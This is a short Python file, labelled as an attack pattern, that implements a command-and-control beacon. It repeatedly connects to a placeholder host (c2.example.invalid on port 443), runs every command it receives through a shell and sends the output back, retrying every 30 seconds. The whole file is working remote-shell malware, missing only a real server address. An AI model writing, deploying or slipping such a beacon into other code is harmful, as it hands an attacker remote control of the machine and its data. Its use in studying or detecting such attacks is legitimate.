# Attack pattern: command-and-control loop that runs every command received on a socket and sends the output back.
import socket
import subprocess
import time


def beacon():
    while True:
        try:
            s = socket.create_connection(("c2.example.invalid", 443))
            while True:
                command = s.recv(4096).decode().strip()
                if not command:
                    break
                output = subprocess.run(command, shell=True, capture_output=True).stdout
                s.sendall(output)
        except OSError:
            time.sleep(30)
